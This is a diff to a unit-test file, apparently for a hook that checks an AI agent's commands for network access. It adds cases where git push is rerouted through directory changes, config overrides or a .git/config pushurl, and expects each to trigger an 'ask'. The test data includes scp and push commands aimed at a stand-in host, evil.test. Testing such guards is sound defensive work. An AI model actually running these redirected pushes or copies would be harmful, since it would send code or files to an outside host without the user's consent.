@@ -32,6 +32,10 @@ describe('hosts', () => {
     ['git push', null],
     ['git push origin main', null],
     ['git push evil main', 'ask'],
+    ['cd .. && git push', 'ask'],
+    ['git -C ../other push', 'ask'],
+    ['git -c remote.origin.url=https://evil.test/a push', 'ask'],
+    ['GIT_DIR=/tmp/x git push', 'ask'],
     ['git push https://evil.test/x main', 'ask'],
     ['scp a evil.test:b', 'ask'],
     ['npm install left-pad', 'ask'],
@@ -49,6 +53,21 @@ describe('hosts', () => {
     ['Read', { file_path: 'a' }, null],
   ])('%s %j', async (tool, input, decision) => {
     expect(await judge(options, tool, input)).toBe(decision);
+  });
+
+  it('are unknown where the settings send a push elsewhere', async () => {
+    const { path } = new Scratch();
+    const folder = new Scratch();
+    folder.write(
+      '.git/config',
+      '[remote "origin"]\n\turl = git@github.com:a/b.git\n\tpushurl = x@evil.test:a\n',
+    );
+    const { hooks } = quietHooks();
+    hooks.on('PreToolUse', { name: 'network', guard: true }, network(options));
+    for (const cwd of [folder.path, path]) {
+      const tool_input = { command: 'git push' };
+      expect((await hooks.fire('PreToolUse', { ...bash, cwd, tool_input })).decision).toBe('ask');
+    }
   });
 
   it('are denied or allowed as `others` says; `packages` is every registry', async () => {
